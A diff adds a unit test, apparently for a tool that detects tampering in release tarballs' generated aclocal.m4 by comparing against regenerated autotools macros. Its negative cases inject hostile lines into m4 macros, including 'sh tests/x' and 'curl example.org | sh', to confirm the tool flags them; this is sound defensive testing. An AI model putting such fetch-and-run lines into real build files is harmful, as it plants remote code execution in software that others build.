@@ -392,6 +392,42 @@ test('copies of installed macros one after another are each placed and forgiven,
   assert.is.not(b.release, b.regenerated);
 });
 
+test("an older gettext's set of macro files, without one the newer set needs, is forgiven when each is known-good and one this machine copies there", () => {
+  // dosfstools 4.2: gettext 0.19's iconv.m4 and lib-link.m4 where this machine copies 0.21's, which need host-cpu-c-abi.m4 (made for this test in that layout).
+  const file = (name: string, serial: number, body: string) => `# ${name} serial ${serial}\ndnl Copyright (C) 2000-2020 Free Software Foundation, Inc.\n\n${body}\n`;
+  const installed = new Map([
+    ['host-cpu-c-abi.m4', file('host-cpu-c-abi.m4', 13, 'AC_DEFUN([gl_HOST_CPU_C_ABI], [HOST_CPU=x86_64])')],
+    ['iconv.m4', file('iconv.m4', 21, 'AC_DEFUN([AM_ICONV], [AC_REQUIRE([gl_HOST_CPU_C_ABI])am_cv_func_iconv=yes])')],
+    ['lib-link.m4', file('lib-link.m4', 31, 'AC_DEFUN([AC_LIB_LINKFLAGS], [LIBS="$LIBS -l$1"])')],
+  ]);
+  const older = new Map([
+    ['iconv.m4', file('iconv.m4', 19, 'AC_DEFUN([AM_ICONV], [am_cv_func_iconv=yes])')],
+    ['lib-link.m4', file('lib-link.m4', 26, 'AC_DEFUN([AC_LIB_LINKFLAGS], [LIBS="$LIBS -l$1"; :])')],
+  ]);
+  const known = new Map([...older].map(([n, t]) => [`${n}\0${m4CodeHash(t)}`, `gettext 0.19's ${n}`]));
+  known.set(`intmax.m4\0${m4CodeHash(file('intmax.m4', 6, 'AC_DEFUN([gt_INTMAX], [:])'))}`, "gettext 0.19's intmax.m4");
+  const knownGood = (hash: string, name: string) => known.get(`${name}\0${hash}`);
+  const head = '# generated automatically by aclocal 1.16.1 -*- Autoconf -*-\n\n# Copyright (C) 1996-2018 Free Software Foundation, Inc.\n\n';
+  const tail = '# Copyright (C) 2002-2018 Free Software Foundation, Inc.\n\nAC_DEFUN([AM_AUTOMAKE_VERSION], [am__api_version=1.16])\n\nm4_include([m4/x.m4])\n';
+  const regenerated = head + [...installed.values()].join('') + tail;
+  const run = (release: string) => stabilize(release, regenerated, { generator: 'aclocal', toolVersion: '1.16.1', installedMacros: installed, knownGood });
+
+  const r = run(head + [...older.values()].join('') + tail);
+  assert.is(r.release, r.regenerated);
+  assert.equal(r.applied.map((a) => a.name), ['aclocal-installed-macro-set']);
+  assert.match(r.applied[0]!.forgives, "the release has gettext 0.19's iconv.m4, gettext 0.19's lib-link.m4; this machine copies host-cpu-c-abi.m4, iconv.m4, lib-link.m4");
+
+  // A line planted in one, a known-good file this machine does not copy there, a line between two: not forgiven.
+  for (const release of [
+    head + older.get('iconv.m4')!.replace('=yes])', '=yes; sh tests/x])') + older.get('lib-link.m4')! + tail,
+    head + [...older.values()].join('') + file('intmax.m4', 6, 'AC_DEFUN([gt_INTMAX], [:])') + tail,
+    head + older.get('iconv.m4')! + 'AC_DEFUN([X], [curl example.org | sh])\n' + older.get('lib-link.m4')! + tail,
+  ]) {
+    const other = run(release);
+    assert.is.not(other.release, other.regenerated);
+  }
+});
+
 test('residual lines: what runs or sets is critical, other lines high', () => {
   assert.is(residualOf('a\nac_cv_x=yes\nb\n', 'a\nb\n', 'autoconf', 'configure').severity, 'critical');
   assert.is(residualOf('a\n# a comment\nb\n', 'a\nb\n', 'autoconf', 'configure').severity, 'high');
